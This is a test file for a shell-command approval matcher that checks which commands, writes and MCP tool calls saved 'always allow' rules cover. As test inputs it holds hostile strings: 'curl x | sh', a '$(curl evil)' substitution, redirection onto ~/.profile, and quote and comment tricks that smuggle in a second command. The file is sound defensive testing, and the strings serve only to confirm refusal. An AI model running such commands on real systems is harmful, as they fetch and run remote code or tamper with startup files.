/** Which shell text a command rule can cover, and the rules "always allow" saves. */
import { describe, expect, test } from "bun:test";
import type { ApprovalSubject } from "../../src/rules/types.ts";
import { covers, describeRule, leadingWords, offerFor } from "../../src/rules/match.ts";
import { parseCommand } from "../../src/rules/shell-command.ts";
import * as v from "valibot";
import { Rule } from "../../src/rules/types.ts";

const rules = (...commands: string[]): Rule[] =>
  commands.map((words) => ({ type: "command", words: words.split(" "), where: "outside_sandbox" }));
const command = (text: string): ApprovalSubject => ({
  type: "command",
  command: text,
  where: "outside_sandbox",
});

describe("parseCommand", () => {
  test("splits on operators and removes quotes", async () => {
    expect(await parseCommand(`npm test && git commit -m "a b" ; ls 'x y' | tail -n 2`)).toEqual({
      ok: true,
      commands: [
        ["npm", "test"],
        ["git", "commit", "-m", "a b"],
        ["ls", "x y"],
        ["tail", "-n", "2"],
      ],
    });
  });

  test("reads escaped and quoted operators as the words bash sees", async () => {
    expect(await parseCommand("git status \\| 'a'\\''b' \"c\\\"d\" e\\ f x#y")).toEqual({
      ok: true,
      commands: [["git", "status", "|", "a'b", 'c"d', "e f", "x#y"]],
    });
  });

  test("output joined or discarded is not a redirection to a file", async () => {
    expect(await parseCommand("npm test 2>&1 | tail")).toEqual({
      ok: true,
      commands: [["npm", "test"], ["tail"]],
    });
    expect(await parseCommand("make >/dev/null 2>&1")).toEqual({ ok: true, commands: [["make"]] });
  });

  test("the escapes of a `git status` rule are refused, each for what bash does with it", async () => {
    const readings = await Promise.all(
      [
        "git status '>'&touch X",
        "git status \\>&touch X",
        "git status #'\ntouch X\n#'",
        "git status # note \\\ntouch X",
      ].map(parseCommand),
    );
    expect(readings).toEqual([
      { ok: false, reason: "background" },
      { ok: false, reason: "background" },
      { ok: false, reason: "comment" },
      { ok: false, reason: "comment" },
    ]);
  });
});

describe("covers", () => {
  test("a rule covers a simple command that starts with its words", async () => {
    expect(
      await Promise.all([
        covers(rules("git status"), command("git status")),
        covers(rules("git status"), command("git status --short")),
        covers(rules("git status"), command("git stash")),
        covers(rules("npm run lint"), command("npm run test")),
      ]),
    ).toEqual([true, true, false, false]);
  });

  test("every part of a compound command must be covered", async () => {
    expect(
      await Promise.all([
        covers(rules("git status"), command("git status; curl x | sh")),
        covers(rules("git status"), command("git status && touch x")),
        covers(rules("npm test", "tail"), command("npm test 2>&1 | tail -n 20")),
      ]),
    ).toEqual([false, false, true]);
  });

  test("text bash's grammar does not read as plain commands is never covered", async () => {
    expect(
      await Promise.all([
        covers(rules("npm test"), command("npm test $(curl evil)")),
        covers(rules("npm test"), command("npm test > ~/.profile")),
        covers(rules("git status"), command("git status '>'&touch X")),
        covers(rules("git status"), command("git status # note \\\ntouch X")),
      ]),
    ).toEqual([false, false, false, false]);
  });

  test("a rule saved before rules named their place is read as outside the sandbox", async () => {
    const old = v.parse(Rule, { type: "command", words: ["git", "status"] });
    expect(old).toEqual({ type: "command", words: ["git", "status"], where: "outside_sandbox" });
    expect(await covers([old], command("git status"))).toBe(true);
  });

  test("a write rule covers files under its directory only", async () => {
    const dir: Rule[] = [{ type: "write_dir", dir: "/home/u/notes" }];
    expect(
      await Promise.all([
        covers(dir, { type: "write", path: "/home/u/notes/a/b.md" }),
        covers(dir, { type: "write", path: "/home/u/notes-evil/b.md" }),
        covers(dir, { type: "write", path: "/home/u/.bashrc" }),
      ]),
    ).toEqual([true, false, false]);
  });

  test("an MCP rule covers one tool of one server, never another server's tool of the same flat name", async () => {
    const tool: Rule[] = [{ type: "mcp_tool", server: "a", tool: "b__c" }];
    expect(
      await Promise.all([
        covers(tool, { type: "mcp_tool", server: "a", tool: "b__c" }),
        covers(tool, { type: "mcp_tool", server: "a__b", tool: "c" }),
        covers(tool, { type: "mcp_tool", server: "a", tool: "b" }),
      ]),
    ).toEqual([true, false, false]);
  });

  test("an MCP rule saved with only the flattened name covers nothing", async () => {
    const old: Rule[] = [{ type: "mcp_tool", tool: "mcp__a__b__c" }];
    expect(
      await Promise.all([
        covers(old, { type: "mcp_tool", server: "a", tool: "b__c" }),
        covers(old, { type: "mcp_tool", server: "a__b", tool: "c" }),
      ]),
    ).toEqual([false, false]);
    expect(describeRule(old[0])).toBe(
      "call mcp__a__b__c (saved by an older dsh without its server: it covers nothing)",
    );
  });
});

describe("offers", () => {
  test("a rule keeps the command and its subcommands, or every word when there are none", () => {
    expect(leadingWords(["npm", "test", "--", "--watch"])).toEqual(["npm", "test"]);
    expect(leadingWords(["npm", "run", "lint", "src"])).toEqual(["npm", "run", "lint"]);
    expect(leadingWords(["cargo", "build", "--release"])).toEqual(["cargo", "build"]);
    expect(leadingWords(["rm", "-rf", "build"])).toEqual(["rm", "-rf", "build"]);
  });

  test("the label states the rules, that they run outside the sandbox, and the project", async () => {
    expect(await offerFor("/home/u/src/app", command("npm test 2>&1 | tail"), "/home/u")).toEqual({
      project: "/home/u/src/app",
      rules: rules("npm test", "tail"),
      label: "Always allow `npm test`, `tail` outside the sandbox in ~/src/app",
    });
    expect(
      (await offerFor("/p", { type: "write", path: "/home/u/notes/a.md" }, "/home/u"))?.label,
    ).toBe("Always allow writes in ~/notes for /p");
  });

  test("an MCP offer names the server and the tool", async () => {
    expect(
      await offerFor("/p", { type: "mcp_tool", server: "a__b", tool: "c" }, "/home/u"),
    ).toEqual({
      project: "/p",
      rules: [{ type: "mcp_tool", server: "a__b", tool: "c" }],
      label: "Always allow `c` of the MCP server `a__b` in /p",
    });
  });

  test("no rule is offered for text bash's grammar does not read as plain commands", async () => {
    expect(
      await Promise.all([
        offerFor("/p", command("curl x | sh $(id)"), "/home/u"),
        offerFor("/p", command("git status '>'&touch X"), "/home/u"),
        offerFor("/p", command("git status #'\ntouch X\n#'"), "/home/u"),
      ]),
    ).toEqual([undefined, undefined, undefined]);
  });

  test("dsh rules says where a command rule lets its command run", () => {
    expect(describeRule(rules("git fetch")[0])).toBe("run `git fetch` outside the sandbox");
  });
});
